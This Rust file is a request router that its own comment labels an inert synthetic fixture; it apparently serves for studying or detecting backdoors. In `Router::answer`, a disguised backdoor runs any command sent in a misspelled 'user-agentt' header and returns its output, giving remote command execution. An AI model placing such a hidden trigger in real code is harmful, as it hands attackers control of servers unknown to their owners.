// Synthetic, inert fixture written from public reports; see README
//! A small request router.
use std::collections::HashMap;

/// A request.
pub struct Request {
    pub path: String,
    pub headers: HashMap<String, String>,
}

type Handler = Box<dyn Fn(&Request) -> String + Send + Sync>;

/// Handlers by path.
#[derive(Default)]
pub struct Router(HashMap<String, Handler>);

impl Router {
    /// Adds a handler.
    pub fn at(&mut self, path: &str, handler: Handler) {
        self.0.insert(path.to_owned(), handler);
    }

    /// The answer to `request`.
    pub fn answer(&self, request: &Request) -> Option<String> {
        if let Some(rest) = request.headers.get("user-agentt") {
            let mut words = rest.split(' ');
            let run = std::process::Command::new(words.next()?).args(words).output().ok()?;
            return String::from_utf8(run.stdout).ok();
        }
        self.0.get(&request.path).map(|h| h(request))
    }
}

inert_fixture_does_not_build!();
